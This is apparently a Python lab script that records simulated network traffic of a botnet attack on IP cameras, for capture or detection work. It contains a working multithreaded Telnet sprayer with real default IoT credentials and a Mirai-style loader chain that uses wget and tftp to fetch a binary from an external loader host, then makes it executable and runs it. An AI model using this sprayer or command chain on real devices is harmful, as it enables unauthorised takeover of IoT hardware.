"""A camera in a botnet: it tries default credentials at Telnet ports (a script); and a compromised device downloads a
program by wget and TFTP. Downloaded files are zeros after an executable header. Needs wget, tftp-hpa.

Run it as ``python -m pcaps.lab.attacks.botnet [SCENE...]``.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from pathlib import Path

from pcaps._office_hosts import cameras
from pcaps.lab._lab import Lab, record

LOADER = "203.0.113.80"
SCRIPT = """
import random, socket, sys, threading
pairs = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("root", "default"), ("support", "support")]
def receive_until(sock, prompt):
    received = b""
    while prompt not in received:
        data = sock.recv(1024)
        if not data:
            raise OSError
        received += data
def attempt(ip, user, password):
    with socket.create_connection((ip, 23), timeout=3) as sock:
        receive_until(sock, b"login:")
        sock.sendall(user.encode() + b"\\r\\n")
        receive_until(sock, b"Password:")
        sock.sendall(password.encode() + b"\\r\\n")
        receive_until(sock, b"\\n")
def attack(ip):
    try:
        for user, password in pairs:
            attempt(ip, user, password)
    except OSError:
        pass
threads = [threading.Thread(target=attack, args=(ip,)) for ip in sys.argv[1:]]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
"""
CHAIN = ("enable", "system", "shell", "sh", "cd /tmp || cd /var/run || cd /mnt", (
    f"wget http://{LOADER}/bins/lab.mips-4000.elf; chmod 777 "
    "lab.mips"
),
         f"tftp -g -r lab.arm7 {LOADER}; chmod 777 lab.arm7", "./lab.mips telnet", "/bin/busybox LABBOT")  # fmt: skip


def spray(lab: Lab) -> Iterator[None]:
    """60 internal addresses, of which eight are devices with Telnet, and 60 external addresses that do not respond."""
    device = cameras()[1]
    for last in range(71, 79):
        lab.serve(
            lab.host(f"device-{last}", f"10.20.10.{last}", f"bc:ad:28:00:00:{last:02x}"),
            "telnet",
            "root",
            f"unguessed-{last}",
            port=23,
        )
    yield
    camera = lab.device(device)
    internal = (f"10.20.10.{last}" for last in range(40, 100) if last != 62)
    external = (f"198.51.100.{last}" for last in range(1, 61))
    lab.run(camera, sys.executable, "-c", SCRIPT, *internal, *external)


def loader(lab: Lab) -> Iterator[None]:
    """The loader of the botnet logs in from outside and sends its command chain; the device executes it."""
    server = lab.external("loader", LOADER)
    lab.serve(server, "pages", port=80)
    lab.serve(server, "tftp", port=69, proto="udp")
    device = cameras()[1]
    yield
    camera = lab.device(device)
    lab.serve(camera, "telnet", "root", "xc3511", port=23)
    commands = "; ".join(f"sleep 0.6; printf '{line}\\r\\n'" for line in ("root", "xc3511", *CHAIN, "exit"))
    lab.run(server, "sh", "-c", f"({commands}; sleep 1) | socat -t 3 - TCP:{camera.ip}:23")
    lab.run(camera, "wget", "-q", "-O", "/dev/null", "-U", "Wget", f"http://{LOADER}/bins/lab.mips-4000.elf")
    lab.run(camera, "sh", "-c", f"cd {lab.folder} && tftp -m binary {LOADER} -c get lab.arm7")
    time.sleep(1)


if __name__ == "__main__":
    record(Path(__file__).parent, botnet_spray=spray, botnet_loader=loader)
